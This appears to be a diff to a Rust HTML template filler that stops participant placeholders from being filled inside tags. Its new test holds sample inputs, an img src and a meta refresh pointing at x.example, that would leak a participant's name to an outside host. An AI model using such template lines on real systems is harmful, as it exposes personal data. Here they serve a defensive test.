@@ -82,7 +82,8 @@ pub struct Scalars {
 
 /// Puts values in the place of `{key}` and `{participant:field}`, escaped for HTML. What has a placeholder for
 /// participants is repeated for each of them, and stands there once with dashes where there are none. `<style>` blocks and unknown
-/// keys stay as they are.
+/// keys stay as they are, and so do placeholders for participants within a tag: there a value could become part of an address
+/// that the browser asks for.
 pub fn fill(html: &str, course: &Scalars, participants: &[Participant]) -> String {
     let parts = parts(html);
     let asks_for_people = parts.iter().any(|part| matches!(part, Part::Person(_)));
@@ -99,6 +100,30 @@ enum Part<'a> {
     Person(&'a str),
 }
 
+/// Where in the markup one is.
+#[derive(Clone, Copy)]
+enum Place {
+    Text,
+    Tag,
+    /// In a quoted value of an attribute, and by what it ends.
+    Value(u8),
+}
+
+impl Place {
+    /// Where one is once `byte` has been read.
+    fn after(self, byte: u8, next: Option<u8>) -> Self {
+        match (self, byte) {
+            (Self::Text, b'<') if next.is_some_and(|b| b.is_ascii_alphabetic() || b"/!?".contains(&b)) => {
+                Self::Tag
+            }
+            (Self::Tag, b'>') => Self::Text,
+            (Self::Tag, quote @ (b'"' | b'\'')) => Self::Value(quote),
+            (Self::Value(quote), byte) if byte == quote => Self::Tag,
+            (place, _) => place,
+        }
+    }
+}
+
 const SCALARS: [&str; 6] =
     ["courseTitle", "courseSlug", "courseLevel", "courseStartDate", "courseEndDate", "participantCount"];
 const FIELDS: [&str; 6] =
@@ -107,13 +132,17 @@ const FIELDS: [&str; 6] =
 fn parts(html: &str) -> Vec<Part<'_>> {
     let mut parts = Vec::new();
     let (mut start, mut at) = (0, 0);
+    let mut place = Place::Text;
     let bytes = html.as_bytes();
     while at < bytes.len() {
-        if bytes[at] == b'<' && is_style(&html[at..]) {
+        if matches!(place, Place::Text) && bytes[at] == b'<' && is_style(&html[at..]) {
             at += style_length(&html[at..]);
             continue;
         }
+        place = place.after(bytes[at], bytes.get(at + 1).copied());
         let found = (bytes[at] == b'{').then(|| placeholder(&html[at + 1..])).flatten();
+        let found =
+            found.filter(|(part, _)| matches!((part, place), (Part::Scalar(_), _) | (_, Place::Text)));
         let Some((part, length)) = found else {
             at += 1;
             continue;
@@ -209,6 +238,22 @@ fn escape(html: &mut String, text: &str) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn no_value_of_a_person_comes_into_a_tag() {
+        let course = Scalars { title: "Ruhig".into(), ..Scalars::default() };
+        let person = person(Some("Eva Geheim"));
+        for html in [
+            "<img src='https://x.example/?{participant:name}'>",
+            "<meta http-equiv=refresh content=\"0;url=//x.example/{participant:name}\">",
+            "<p title={participant:name}>",
+            "<a href=\"//x.example/?>{participant:name}",
+        ] {
+            assert!(!fill(html, &course, std::slice::from_ref(&person)).contains("Eva"), "{html}");
+        }
+        let text = "<p title=\"{courseTitle}\">1 < 2 {participant:name}</p>";
+        assert_eq!(fill(text, &course, &[person]), "<p title=\"Ruhig\">1 < 2 Eva Geheim</p>");
+    }
 
     fn person(name: Option<&str>) -> Participant {
         Participant {
